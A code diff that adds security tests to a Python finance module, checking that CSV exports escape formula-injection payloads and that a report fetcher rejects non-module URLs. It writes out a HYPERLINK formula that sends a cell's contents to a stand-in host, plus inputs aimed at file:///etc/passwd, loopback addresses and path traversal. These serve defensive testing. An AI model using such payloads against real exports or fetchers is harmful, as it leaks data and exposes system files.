@@ -708,5 +708,50 @@ class MuniFinanceTestCase(CompanyTestMixin, ModuleTestCase):
         self.assertEqual(uncovered(Origin, {'planted': required}),
             {'planted': ['required']})
 
+    @with_transaction()
+    def test_export_formula_safe(self):
+        "Texts from outside are exported as text, never as a formula"
+        pool = Pool()
+        Party = pool.get('party.party')
+        party, plain = Party.create([
+                {'name': '=HYPERLINK("http://x.example/?"&A1,"Плати")'},
+                {'name': "Иван Петров - ЕООД"}])
+        for header in [False, True]:
+            rows = Party.export_data([party, plain], ['name'], header=header)
+            if header:
+                self.assertEqual(rows.pop(0), ['Name'])
+            self.assertEqual(rows, [
+                    ['\'=HYPERLINK("http://x.example/?"&A1,"Плати")'],
+                    ["Иван Петров - ЕООД"]])
+        for text in ['+1', '-2+3', '@SUM(A1)']:
+            party.name = text
+            party.save()
+            self.assertEqual(
+                Party.export_data_domain([('id', '=', party.id)], ['name']),
+                [["'" + text]])
+        # a name holds no tab nor carriage return; a description may
+        from muni_base.export import formula_safe
+        self.assertEqual(formula_safe('\tcmd'), "'\tcmd")
+        self.assertEqual(formula_safe('\r=1+1'), "'\r=1+1")
+        self.assertEqual(formula_safe(Decimal('-1')), Decimal('-1'))
+
+    def test_report_fetches_module_files_only(self):
+        "The PDF of a report reads its module's files and no other URL"
+        from pathlib import Path
+
+        from trytond.tools import find_dir
+
+        from muni_base.report import module_files_fetcher
+        fetcher = module_files_fetcher('muni_finance')
+        own = Path(find_dir('muni_finance')) / 'receipt.html'
+        self.assertIn(b'<html', fetcher.fetch(own.as_uri()).read())
+        for url in ['http://127.0.0.1:9/', 'https://example.com/logo.png',
+                'file:///etc/passwd', own.parent.parent.as_uri() + '/x',
+                own.as_uri().replace('muni_finance/', 'muni_finance/../'
+                    '../../../../etc/passwd#'),
+                'ftp://127.0.0.1/x']:
+            with self.subTest(url=url), self.assertRaises(ValueError):
+                fetcher.fetch(url)
+
 
 del ModuleTestCase
